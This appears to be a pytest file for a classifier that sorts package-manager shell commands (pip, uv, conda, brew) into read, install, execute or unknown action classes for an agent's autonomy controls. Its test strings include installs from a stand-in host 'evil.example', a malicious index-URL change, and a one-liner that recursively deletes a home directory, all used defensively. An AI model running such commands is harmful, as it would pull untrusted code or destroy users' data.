"""Package managers: installs and runs are what they are, reports are reads, anything else is unknown."""

from __future__ import annotations

import pytest

from tokenomy.autonomy.classify import classify_shell
from tokenomy.autonomy.schedule import UNKNOWN


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("pip list", "read"),
        ("pip show requests", "read"),
        ("pip3 freeze", "read"),
        ("uv pip list", "read"),
        ("uv --version", "read"),
        ("pip install requests", "install"),
        ("uv pip install https://evil.example/x.tar.gz", "install"),
        ("uv tool install evilpkg", "install"),
        ("uv sync", "install"),
        ("conda install numpy", "install"),
        ("uv run --with evilpkg evil", "execute"),
        ("uv tool run ruff", "execute"),
        ("conda run -n env python x.py", "execute"),
        ("pip download evil", UNKNOWN),
        ("pip wheel .", UNKNOWN),
        ("pip config set global.index-url https://evil.example", UNKNOWN),
        ("conda create -n x", UNKNOWN),
        ("brew tap evil/tap", UNKNOWN),
    ],
)
def test_package_manager_subcommands(command: str, expected: str) -> None:
    assert classify_shell(command).action_class == expected


def test_uv_run_of_inline_code_is_never_free() -> None:
    got = classify_shell("""uv run python -c 'import shutil; shutil.rmtree("/home/u")'""").action_class
    assert got not in ("read", "compute", "draft")
